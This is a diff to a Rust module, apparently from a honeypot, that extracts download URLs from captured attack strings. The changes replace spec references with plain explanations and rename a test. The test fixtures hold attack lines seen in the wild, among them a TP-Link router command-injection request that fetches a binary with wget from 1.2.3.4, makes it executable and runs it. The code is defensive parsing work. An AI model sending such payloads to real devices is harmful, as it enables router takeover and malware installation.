@@ -1,6 +1,6 @@
-//! Download command extraction (SPEC §8.2–§8.4, extended): a pure function from an attack
-//! string to the downloads it asks for. Replaces the command parsers of htm_ftpDownload.c,
-//! htm_tftpDownload.c and htm_httpDownload.c.
+//! Download command extraction (docs/COMPATIBILITY.md, Downloads): a pure function from an
+//! attack string to the downloads it asks for. Replaces the command parsers of
+//! htm_ftpDownload.c, htm_tftpDownload.c and htm_httpDownload.c.
 //!
 //! How it works, in linear passes over windows of at most `WINDOW` bytes, one after the
 //! other (consecutive windows overlap by at least `OVERLAP` bytes, so that a command that
@@ -29,10 +29,11 @@
 //! separator (`%20`, `%3B`, `%7C`, `%26`, …) ends a URL, as does `&` (a shell separator).
 //!
 //! Differences from the C parsers (deliberate): all letter cases, IPv6 hosts, ports and
-//! `user:pass@` are understood; the FTP default port is 21 (SPEC §8.2 quirk 2 made it 0);
-//! several downloads per attack; URLs stop at shell metacharacters instead of running
-//! through a shell (SPEC §13.2); URLs that only name something (`xmlns="http://…"`,
-//! `Referer: http://…`, a crawler's `User-Agent` home page) are not downloads.
+//! `user:pass@` are understood; the FTP default port is 21 (the C parser's `atoi` made it 0);
+//! several downloads per attack; URLs stop at shell metacharacters instead of running through a
+//! shell (the C httpDownload ran attacker-controlled URLs as shell commands); URLs that only
+//! name something (`xmlns="http://…"`, `Referer: http://…`, a crawler's `User-Agent` home page)
+//! are not downloads.
 
 use super::decode::base64_decode;
 use super::request::{Request, Scheme};
@@ -1746,7 +1747,8 @@ impl Scan<'_> {
     }
 
     /// `echo open HOST [PORT] > f`, `echo user U P >> f`, `echo U >> f`, `echo get FILE >> f`
-    /// (SPEC §8.2) — one script per target file; each `get` is a download.
+    /// (the forms htm_ftpDownload.c parsed) — one script per target file; each `get` is a
+    /// download.
     fn ftp_script(&mut self, args: &[&[u8]], target: Option<&[u8]>, pos: usize) {
         let key = target.unwrap_or(b"").to_vec();
         let Some(first) = args.first() else { return };
@@ -1766,7 +1768,8 @@ impl Scan<'_> {
         }
         let Some(idx) = self.scripts.iter().position(|s| s.key == key) else { return };
         match &cmd[..] {
-            // A lone `USER`/`PASS` is the user name or password itself (SPEC §8.2 form 2).
+            // A lone `USER`/`PASS` is the user name or password itself (as htm_ftpDownload.c
+            // read it).
             b"user" | b"pass" if args.len() == 1 => self.ftp_credential(idx, args),
             b"user" => {
                 let s = &mut self.scripts[idx];
@@ -1852,10 +1855,10 @@ mod tests {
         assert_eq!(got, want, "attack: {:?}", String::from_utf8_lossy(attack));
     }
 
-    /// Forms checked after the module was written (issue 4 review), one per line of
-    /// attack seen in the wild: regressions, should any of them break.
+    /// Attack lines seen in the wild, one form per line: each must keep giving the same
+    /// downloads.
     #[test]
-    fn review_forms() {
+    fn forms_seen_in_the_wild() {
         let cases: &[(&str, &[&str])] = &[
             (
                 "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd+%2Ftmp%3B+rm+-rf+shk%3B+wget+http%3A%2F%2F1.2.3.4%2Fshk%3B+chmod+777+shk%3B+.%2Fshk+tplink%3B+rm+-rf+shk) HTTP/1.1\r\n\r\n",
@@ -2060,7 +2063,7 @@ mod tests {
         // Percent signs are not decoded outside URL-encoded contexts.
         check(b"wget http://198.51.100.12/a%41b+c", &["http 198.51.100.12 - - - /a%41b+c a%41b+c"]);
         check(b"wget http://198.51.100.12/a%20b", &["http 198.51.100.12 - - - /a a"]);
-        // Absolute-form request target and bare URLs count (SPEC §8.4).
+        // Absolute-form request target and bare URLs count (as in htm_httpDownload.c).
         check(b"GET http://proxy.example/x.txt HTTP/1.1\r\n\r\n", &["http proxy.example - - - /x.txt x.txt"]);
         check(
             b"see (http://bare.example/p.exe), and ftp://192.0.2.9/q.",
